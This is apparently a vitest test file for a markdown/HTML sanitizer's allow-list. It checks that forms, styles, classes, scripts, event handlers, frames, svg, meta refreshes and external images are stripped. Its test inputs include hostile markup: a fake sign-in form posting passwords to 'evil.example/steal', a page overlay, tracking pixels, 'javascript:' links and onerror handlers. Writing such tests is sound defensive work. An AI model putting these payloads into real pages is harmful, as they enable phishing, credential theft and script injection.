/**
 * The markdown/HTML allow-list (server/markdown/sanitize.ts): what survives and what does not.
 * Every hostile case here was kept by the previous DOMPurify defaults.
 */
import { execFile } from "node:child_process";
import path from "node:path";
import { promisify } from "node:util";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "@/server/markdown/render";
import { isAllowedImageSource, sanitizeHtml } from "@/server/markdown/sanitize";

const ROOT = path.resolve(__dirname, "../../..");

describe("sanitizeHtml allow-list", () => {
  it("keeps the structure markdown produces", () => {
    const html = renderMarkdown("# Title\n\n**bold** _em_ `code` ~~gone~~\n\n- a\n- b\n\n1. x\n\n> quote\n\n| a | b |\n|:-:|--|\n| 1 | 2 |\n\n```js\nx\n```\n\n[link](https://example.org/a)");
    for (const t of ["<h1>Title</h1>", "<strong>bold</strong>", "<em>em</em>", "<code>code</code>", "<del>gone</del>", "<li>a</li>", "<ol>", "<blockquote>", '<th align="center">a</th>', '<code class="language-js">'])
      expect(html).toContain(t);
    expect(html).toContain('<a href="https://example.org/a" target="_blank" rel="noopener noreferrer">link</a>');
  });

  it("drops forms and every form control, keeping no external action", () => {
    const html = sanitizeHtml('<form action="https://evil.example/steal" method="post"><p>Session expired</p><input name="password" type="password"><button formaction="https://evil.example/x">Sign in</button><select><option>a</option></select><textarea>t</textarea></form>');
    expect(html).not.toMatch(/<form|<input|<button|<select|<textarea|evil\.example|formaction/);
    expect(html).toContain("Session expired");
  });

  it("drops <style> elements with their content, and every style attribute", () => {
    const html = sanitizeHtml('<style>.eb-report{display:none}</style><div style="position:fixed;inset:0;z-index:9999;background:#fff">Overlay</div><p style="color:red">x</p>');
    expect(html).not.toMatch(/<style|style=|position|display:none/);
    expect(html).toBe("<div>Overlay</div><p>x</p>");
  });

  it("drops class (app stylesheet classes could position an overlay) except language-* on code", () => {
    expect(sanitizeHtml('<div class="fixed inset-0 z-50">x</div><code class="language-py">y</code><code class="fixed">z</code>')).toBe('<div>x</div><code class="language-py">y</code><code>z</code>');
  });

  it("keeps images only from data: or the same origin", () => {
    expect(sanitizeHtml('<img src="https://evil.example/pixel.png" alt="p">')).toBe("");
    expect(sanitizeHtml('<img src="//evil.example/pixel.png">')).toBe("");
    expect(sanitizeHtml('<img src="javascript:alert(1)">')).toBe("");
    expect(sanitizeHtml(renderMarkdown("![x](http://evil.example/x.png)"))).not.toContain("<img");
    expect(sanitizeHtml('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">')).toBe('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">');
    expect(sanitizeHtml('<img src="/static/logo.png" alt="logo" width="20">')).toBe('<img src="/static/logo.png" alt="logo" width="20">');
    expect(isAllowedImageSource("data:text/html;base64,PHNjcmlwdD4=")).toBe(false);
    expect(isAllowedImageSource("\\\\evil.example\\x.png")).toBe(false);
    expect(isAllowedImageSource("img/x.png")).toBe(true);
  });

  it("drops scripts, handlers, frames, svg, links to javascript:, ids and data attributes", () => {
    const html = sanitizeHtml('<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="https://evil.example"></iframe><svg><a href="javascript:alert(1)">s</a></svg><a href="javascript:alert(1)">j</a><p id="x" data-x="1" aria-hidden="true">p</p><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">');
    expect(html).not.toMatch(/script|onerror|iframe|svg|javascript|id=|data-x|aria-|<link|<meta|<base|evil\.example/);
    expect(html).toContain("<p>p</p>");
  });

  it("turns GFM task-list checkboxes into characters", () => {
    const html = renderMarkdown("- [x] done\n- [ ] todo");
    expect(html).not.toContain("<input");
    expect(html).toContain("☑ done");
    expect(html).toContain("☐ todo");
  });

  it("sanitizes in-process: no jsdom/DOMPurify loaded and no worker thread started", async () => {
    // A fresh process, so nothing else has loaded jsdom first. Worker is wrapped to count threads;
    // jsdom (CommonJS) shows in require.cache once loaded — checked by requiring it at the end.
    const probe = `
      import { createRequire, syncBuiltinESMExports } from "node:module";
      const require = createRequire(import.meta.url);
      const wt = require("node:worker_threads");
      let workers = 0;
      const Original = wt.Worker;
      wt.Worker = class extends Original { constructor(...a) { workers++; super(...a); } };
      syncBuiltinESMExports();
      const loaded = () => Object.keys(require.cache).some((f) => /[\\/]node_modules[\\/](jsdom|dompurify)[\\/]/.test(f));
      const { sanitizeHtml } = await import(process.argv[1]);
      const html = sanitizeHtml('<p onclick="x()">hi</p><img src="https://evil.example/x.png">');
      const before = { html, jsdom: loaded(), workers };
      require("jsdom");
      console.log(JSON.stringify({ ...before, jsdomAfterRequire: loaded() }));`;
    const { stdout } = await promisify(execFile)(process.execPath, ["--import", "tsx", "--input-type=module", "-e", probe, path.join(ROOT, "server/markdown/sanitize.ts")], { cwd: ROOT });
    expect(JSON.parse(stdout)).toEqual({ html: "<p>hi</p>", jsdom: false, workers: 0, jsdomAfterRequire: true });
  }, 60_000); // a fresh tsx process that loads jsdom at the end: seconds on a loaded machine
});
